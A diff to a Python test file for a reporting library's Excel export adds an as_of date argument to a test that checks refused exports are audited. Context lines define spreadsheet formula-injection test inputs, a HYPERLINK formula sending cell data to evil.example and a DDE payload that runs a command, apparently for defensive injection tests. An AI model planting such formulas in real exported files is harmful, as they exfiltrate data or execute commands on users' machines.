@@ -19,6 +19,8 @@ from data_access.db.schema import events, sanling_subjects, units
 from data_access.filters import Scope, parse_period
 from data_access.queries import units as un
 
+from .conftest import DATA_AS_OF
+
 # What an attacker puts into an event title, a unit name, a subject name, an imported id.
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看详情")'
 DDE = "+cmd|' /C calc'!A0"
@@ -219,9 +221,9 @@ def test_refused_export_through_the_library_is_audited(tiny_copy):
     who = reports.Exporter("staff", Scope(sub, 1), "科员")
     before = len(_audit(tiny_copy))
     with pytest.raises(OutOfScopeError):
-        reports.export(eng, "excel", who, root.code, "2026-09")
+        reports.export(eng, "excel", who, root.code, "2026-09", as_of=DATA_AS_OF)
     with pytest.raises(ValueError):
-        reports.export(eng, "excel", who, sub, "2026-09", sections=())
+        reports.export(eng, "excel", who, sub, "2026-09", sections=(), as_of=DATA_AS_OF)
     rows = _audit(tiny_copy)[before:]
     assert [(r["username"], r["detail"]["unit"], bool(r["detail"]["refused"])) for r in rows] == [
         ("staff", root.code, True), ("staff", sub, True)]
